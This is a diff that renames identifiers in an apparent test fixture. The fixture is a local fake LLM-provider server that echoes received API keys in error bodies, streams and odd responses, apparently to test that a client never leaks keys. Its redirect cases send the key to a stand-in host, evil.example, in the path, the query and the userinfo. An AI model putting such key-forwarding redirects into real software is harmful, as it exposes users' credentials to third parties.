@@ -11,7 +11,7 @@ from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
-DIALECTS = {
+ECHO_PROVIDERS = {
     "parrot-chat": ("openai_chat", "bearer"),
     "parrot-messages": ("anthropic_messages", "x-api-key"),
     "parrot-gemini": ("gemini", "x-goog-api-key"),
@@ -19,7 +19,7 @@ DIALECTS = {
 }
 """A provider's row for each dialect, and how it takes its key."""
 
-Shape = Callable[[str], bytes]
+ErrorBody = Callable[[str], bytes]
 
 
 def _json(value: object) -> bytes:
@@ -31,7 +31,7 @@ def _escaped(key: str) -> str:
     return re.sub(r"[^A-Za-z0-9]", lambda sign: f"\\u{ord(sign[0]):04x}", key)
 
 
-SHAPES: dict[str, Shape] = {
+ERROR_BODIES: dict[str, ErrorBody] = {
     "openai": lambda key: _json({"error": {"message": f"Incorrect key: {key}.", "code": key, "type": key}}),
     "anthropic": lambda key: _json({"type": "error", "error": {"type": key, "message": f"invalid {key}"}}),
     "google": lambda key: _json([{"error": {"code": 400, "message": f"bad {key}", "status": key}}]),
@@ -50,7 +50,7 @@ SHAPES: dict[str, Shape] = {
 """How an error quotes a key; some so late that a text of 500 characters ends in the middle of it."""
 
 STATUSES = (400, 401, 403, 404, 407, 408, 409, 413, 422, 429, 500, 502, 503, 529)
-STREAMED = {
+STREAM_ERRORS = {
     "openai_chat": 'data: {"error": {"message": "bad key KEY", "code": "KEY", "type": "KEY"}}\n\n',
     "anthropic_messages": "event: error\n"
     'data: {"type": "error", "error": {"type": "KEY", "message": "bad key KEY"}}\n\n',
@@ -58,14 +58,14 @@ STREAMED = {
     "openai_responses": "event: error\n"
     'data: {"type": "error", "code": "KEY", "message": "bad key KEY", "sequence_number": 0}\n\n',
 }
-BEGINNING = {
+STREAM_STARTS = {
     "openai_chat": 'data: {"model": "m", "choices": [{"index": 0, "delta": {"content": "Hello"}}]}\n\n',
     "anthropic_messages": 'data: {"type": "message_start", "message": {"model": "m", "usage": {}}}\n\n'
     'data: {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": "A"}}\n\n',
     "gemini": 'data: {"candidates": [{"content": {"parts": [{"text": "Hello"}]}}]}\n\n',
     "openai_responses": 'data: {"type": "response.created", "response": {"id": "1", "model": "m"}}\n\n',
 }
-ODDITIES = {
+ODD_RESPONSES = {
     "in-stream": "STREAM",
     "after-a-beginning": "BEGINNINGSTREAM",
     "bad-json": 'data: {"error": {"message": "KEY\n\n',
@@ -78,41 +78,45 @@ ODDITIES = {
 }
 """What comes with HTTP 200 and is no answer all the same."""
 
-KINDS = {"page": "text/html", "whole": "application/json", "text": "text/plain", "cut": "text/plain"}
+MEDIA_TYPES = {"page": "text/html", "whole": "application/json", "text": "text/plain", "cut": "text/plain"}
 
-NAMES = [
+BEHAVIOURS = [
     *(f"{status}-openai" for status in STATUSES),
-    *(f"401-{shape}" for shape in SHAPES),
+    *(f"401-{shape}" for shape in ERROR_BODIES),
     *(f"503-{shape}" for shape in ("text", "cut", "cut-json")),
-    *(f"200-{oddity}" for oddity in ODDITIES),
+    *(f"200-{oddity}" for oddity in ODD_RESPONSES),
     *("301-redirect", "302-redirect", "encoding", "headers", "reason", "hang-up", "not-http", "half-a-head"),
 ]
 """All that it can do."""
-IN_A_DIALECT = [name for name in NAMES if name.startswith("200-") or name == "401-openai"]
+DIALECT_BEHAVIOURS = [name for name in BEHAVIOURS if name.startswith("200-") or name == "401-openai"]
 """What each dialect reads in its own way; refusals are read before any dialect is asked."""
 
 
 def _answer(name: str, key: str, dialect: str) -> bytes:
     status, _, shape = name.partition("-")
     if status == "200":
-        told = ODDITIES[shape].replace("STREAM", STREAMED[dialect]).replace("BEGINNING", BEGINNING[dialect])
-        kind = (
+        response_text = (
+            ODD_RESPONSES[shape]
+            .replace("STREAM", STREAM_ERRORS[dialect])
+            .replace("BEGINNING", STREAM_STARTS[dialect])
+        )
+        media_type = (
             "text/html"
             if shape == "page"
             else "application/json"
             if shape == "whole"
             else "text/event-stream"
         )
-        return _response(200, "OK", told.replace("KEY", key).encode(), f"Content-Type: {kind}")
-    if status.isdigit() and shape in SHAPES:
-        kind = (
+        return _response(200, "OK", response_text.replace("KEY", key).encode(), f"Content-Type: {media_type}")
+    if status.isdigit() and shape in ERROR_BODIES:
+        media_type = (
             "text/html"
             if shape == "page"
             else "text/plain"
             if shape in ("text", "cut")
             else "application/json"
         )
-        return _response(int(status), "Refused", SHAPES[shape](key), f"Content-Type: {kind}")
+        return _response(int(status), "Refused", ERROR_BODIES[shape](key), f"Content-Type: {media_type}")
     return {
         "301-redirect": _response(301, "Moved", b"", f"Location: https://evil.example/{key}?key={key}"),
         "302-redirect": _response(302, "Found", b"", f"Location: https://{key}@evil.example/"),
@@ -138,30 +142,33 @@ def _response(status: int, reason: str, body: bytes, *headers: str) -> bytes:
     return "\r\n".join(lines).encode() + b"\r\n\r\n" + body
 
 
-class _Parrot(BaseHTTPRequestHandler):
+class _KeyEchoHandler(BaseHTTPRequestHandler):
     def do_POST(self) -> None:
         body = self.rfile.read(int(self.headers["content-length"]))
         provider = self.path.split("/")[1]
-        named = re.search(r"models/([^:]+):", self.path)
-        name = named[1] if named else json.loads(body)["model"]
-        shown = [self.headers.get(one, "") for one in ("authorization", "x-api-key", "x-goog-api-key")]
-        key = "".join(shown).removeprefix("Bearer ")
-        keys_heard.add(key)
-        self.wfile.write(_answer(name, key, DIALECTS[provider][0]))
+        model_match = re.search(r"models/([^:]+):", self.path)
+        name = model_match[1] if model_match else json.loads(body)["model"]
+        credentials = [
+            self.headers.get(header_name, "")
+            for header_name in ("authorization", "x-api-key", "x-goog-api-key")
+        ]
+        key = "".join(credentials).removeprefix("Bearer ")
+        keys_received.add(key)
+        self.wfile.write(_answer(name, key, ECHO_PROVIDERS[provider][0]))
         self.close_connection = True
 
     def log_message(self, format: str, *args: object) -> None:
         """Say nothing: it would be the parrot that tells the key."""
 
 
-keys_heard: set[str] = set()
+keys_received: set[str] = set()
 """Every key that a parrot was sent, to see that there was something to quote."""
 
 
 @contextmanager
-def parrot() -> Iterator[str]:
+def run_key_echo() -> Iterator[str]:
     """Its address, until the block ends."""
-    with ThreadingHTTPServer(("127.0.0.1", 0), _Parrot) as server:
+    with ThreadingHTTPServer(("127.0.0.1", 0), _KeyEchoHandler) as server:
         thread = threading.Thread(target=server.serve_forever, daemon=True)
         thread.start()
         yield f"http://127.0.0.1:{server.server_port}"
@@ -169,11 +176,11 @@ def parrot() -> Iterator[str]:
         thread.join(10)
 
 
-def rows(url: str, keys: dict[str, str]) -> str:
+def catalog_rows(url: str, keys: dict[str, str]) -> str:
     """Rows of a catalog that lead to the parrot; `keys` are references."""
     return "\n".join(
         f'[providers.{name}]\ndialect = "{dialect}"\nbase_url = "{url}/{name}"\nauth = "{auth}"\n'
         f'key = "{keys[name]}"\nreplay = "none"\nlocal = true\nmax_tokens = 100\n'
         'fact = { as_of = "2026-11-16", source = "a test" }\n'
-        for name, (dialect, auth) in DIALECTS.items()
+        for name, (dialect, auth) in ECHO_PROVIDERS.items()
     )
